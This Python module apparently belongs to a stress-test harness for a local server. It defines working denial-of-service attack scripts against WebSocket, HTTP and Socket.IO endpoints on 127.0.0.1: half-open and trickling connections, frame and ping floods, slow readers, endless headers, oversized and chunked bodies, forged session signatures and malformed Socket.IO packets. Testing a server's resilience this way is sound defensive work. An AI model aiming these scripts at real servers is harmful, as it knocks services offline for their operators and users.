"""
What clients send that attack a server: by WebSocket, to a site, and to Socket.IO.
"""

from __future__ import annotations

import os
from base64 import b64encode
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from enum import Enum
from itertools import count
from time import monotonic


__all__ = ["ATTACKS", "SOCKETIO", "Attack", "Do", "Step"]


class Do(Enum):
    AWAIT = "wait until there is an answer"
    LEAVE = "leave, and come again"


Step = bytes | float | Do
"""
What to do next: send bytes, wait for some seconds, or one of the above.
"""


@dataclass(frozen=True)
class Attack:
    """
    What one kind of attacker does.

    @ivar script: What each connection does, given a cookie and the port; when it
        is done, the connection stays as it is.

    @ivar count: How many there are at a time.

    @ivar reads: Whether they read what comes.

    @ivar again: After how many seconds one that was cut off comes again.

    @ivar most: How many connections they make at most, for each that there is
        at a time.
    """

    script: Callable[[str, int], Iterator[Step]]
    count: int
    reads: bool = True
    again: float = 1.0
    most: int = 5


def _head(cookie: str, port: int, *more: str) -> bytes:
    lines = (
        "GET /ws HTTP/1.1",
        f"Host: 127.0.0.1:{port}",
        "Upgrade: websocket",
        "Connection: Upgrade",
        "Sec-WebSocket-Version: 13",
        f"Sec-WebSocket-Key: {b64encode(os.urandom(16)).decode()}",
        f"Cookie: connect.sid={cookie}",
        *more,
    )
    return "\r\n".join([*lines, "\r\n"]).encode()


def frame(first: int, payload: bytes = b"") -> bytes:
    """
    @param first: The first byte.

    @return: A frame of a client, whose mask is of zeros.
    """
    size = len(payload)
    if size < 126:
        length = bytes([0x80 | size])
    elif size < 1 << 16:
        length = b"\xfe" + size.to_bytes(2, "big")
    else:
        length = b"\xff" + size.to_bytes(8, "big")
    return bytes([first]) + length + bytes(4) + payload


def _halfOpen(cookie: str, port: int) -> Iterator[Step]:
    yield f"GET /ws HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n".encode()


def _trickling(cookie: str, port: int) -> Iterator[Step]:
    yield from _halfOpen(cookie, port)
    for number in count():
        yield 2.0
        yield f"X-{number}: {number}\r\n".encode()


def _opened(cookie: str, port: int) -> Iterator[Step]:
    yield _head(cookie, port)
    yield Do.AWAIT


def _endless(frames: bytes, first: bytes = b"") -> Callable[..., Iterator[Step]]:
    def script(cookie: str, port: int) -> Iterator[Step]:
        yield from _opened(cookie, port)
        yield first
        while True:
            yield frames

    return script


def _asking(cookie: str, port: int) -> Iterator[Step]:
    # Bounded: a server that holds all answers back has 3 GiB of them then.
    yield from _opened(cookie, port)
    yield frame(0x81, b'{"bytes": 262144}') * 64


def _pings(cookie: str, port: int) -> Iterator[Step]:
    yield from _opened(cookie, port)
    began = monotonic()
    for number in count(1):
        yield frame(0x89) * 1000
        yield max(began + number * 0.02 - monotonic(), 0.0)


def _badlySigned(cookie: str, port: int) -> Iterator[Step]:
    yield _head(f"s%3A{os.urandom(16).hex()}.{'A' * 43}", port)
    yield Do.AWAIT
    yield Do.LEAVE


def _endlessHeader(cookie: str, port: int) -> Iterator[Step]:
    yield _head(cookie, port)[:-2] + b"X-A: "
    while True:
        yield b"a" * 16384


def _body(cookie: str, port: int) -> Iterator[Step]:
    size = 32 * 1024 * 1024
    yield _head(cookie, port, f"Content-Length: {size}").replace(b"GET", b"POST", 1)
    for _ in range(size // 16384):
        yield b"a" * 16384


def _chunked(cookie: str, port: int) -> Iterator[Step]:
    yield _head(cookie, port, "Transfer-Encoding: chunked")
    for _ in range(2048):
        yield b"4000\r\n" + b"a" * 16384 + b"\r\n"


_WIDE = b"[" + b",".join([b"[]"] * ((1024 * 1024 - 2) // 3)) + b"]"

ATTACKS = {
    "half-open": Attack(_halfOpen, 2000),
    "trickling": Attack(_trickling, 2000),
    "floods": Attack(_endless(frame(0x81, b"1") * 2000), 200),
    "slow readers": Attack(_asking, 200, reads=False),
    "pings": Attack(_pings, 1),
    "empty fragments": Attack(_endless(frame(0x00) * 2000, frame(0x01)), 5),
    "one-byte fragments": Attack(_endless(frame(0x00, b" ") * 2000, frame(0x01)), 5),
    "bad signatures": Attack(_badlySigned, 50, again=0.0, most=400),
    "wide JSON": Attack(_endless(frame(0x81, _WIDE)), 5),
    "endless headers": Attack(_endlessHeader, 5, again=0.1, most=100),
    "bodies": Attack(_body, 5, again=0.1, most=100),
    "chunked bodies": Attack(_chunked, 5, again=0.1, most=100),
}
"""
Those that go to plain sockets and pages, each with as many clients as a whole attack
has.
"""


# Socket.IO.


def _toEngine(cookie: str, port: int) -> bytes:
    path = b"GET /socket.io/?EIO=4&transport=websocket "
    return _head(cookie, port).replace(b"GET /ws ", path)


def _packet(payload: bytes) -> bytes:
    return frame(0x81, b"4" + payload)


def _connected(cookie: str, port: int) -> Iterator[Step]:
    yield _toEngine(cookie, port)
    yield Do.AWAIT
    yield _packet(b"0")


def _endlessPackets(*packets: bytes) -> Callable[..., Iterator[Step]]:
    def script(cookie: str, port: int) -> Iterator[Step]:
        yield from _connected(cookie, port)
        frames = b"".join(packets) * (2000 // len(packets))
        while True:
            yield frames

    return script


def _comesAndGoes(cookie: str, port: int) -> Iterator[Step]:
    # With a pause: what is in the kernel when it leaves is handled, too.
    yield from _connected(cookie, port)
    while True:
        yield (_packet(b"1") + _packet(b"0")) * 100
        yield 0.1


def _outside(cookie: str, port: int) -> Iterator[Step]:
    yield _toEngine(cookie, port)


def _polls(headers: str) -> Callable[..., Iterator[Step]]:
    def script(cookie: str, port: int) -> Iterator[Step]:
        line = "GET /socket.io/?EIO=4&transport=polling HTTP/1.1"
        request = f"{line}\r\nHost: 127.0.0.1:{port}\r\n{headers}\r\n".encode()
        while True:
            yield request * 20

    return script


def _badly(cookie: str, port: int) -> Iterator[Step]:
    yield from _connected(cookie, port)
    yield _packet(b'2["say",NaN]')
    yield 0.05
    yield Do.LEAVE


def _asksMuch(cookie: str, port: int) -> Iterator[Step]:
    yield from _connected(cookie, port)
    yield _packet(b'2["say",{"bytes":262144}]') * 64


def _posts(cookie: str, port: int) -> Iterator[Step]:
    size = 32 * 1024 * 1024
    path = b"POST /socket.io/?EIO=4&transport=polling&sid=none "
    head = _head(cookie, port, f"Content-Length: {size}")
    yield head.replace(b"GET /ws ", path).replace(b"Upgrade", b"X-U")
    for _ in range(size // 16384):
        yield b"4" * 16384


_ATTACHED = _packet(b'51-0["say",{"_placeholder":true,"num":0}]') + frame(0x82, b"x")
_HALF = _packet(b'59-["say"' + b',{"_placeholder":true,"num":0}' * 9 + b"]")

SOCKETIO = {
    "events": Attack(_endlessPackets(_packet(b'20["say",1]')), 50),
    "attachments": Attack(_endlessPackets(_ATTACHED), 5),
    "no attachments": Attack(_endlessPackets(_HALF), 50, again=0.1, most=100),
    "unknown namespaces": Attack(_endlessPackets(_packet(b"0/none,")), 5),
    "coming and going": Attack(_comesAndGoes, 5),
    "engine pongs": Attack(_endlessPackets(frame(0x81, b"3")), 5),
    "no namespace": Attack(_outside, 1000),
    "handshakes": Attack(_polls(""), 4, again=0.1, most=100),
    "large handshakes": Attack(_polls(f"X-A: {'a' * 14_000}\r\n"), 4),
    "malformed packets": Attack(_badly, 50, again=0.0, most=400),
    "events that ask for much": Attack(_asksMuch, 200, reads=False),
    "bodies for nobody": Attack(_posts, 5, again=0.1, most=100),
}
"""
Those that go to Socket.IO.
"""
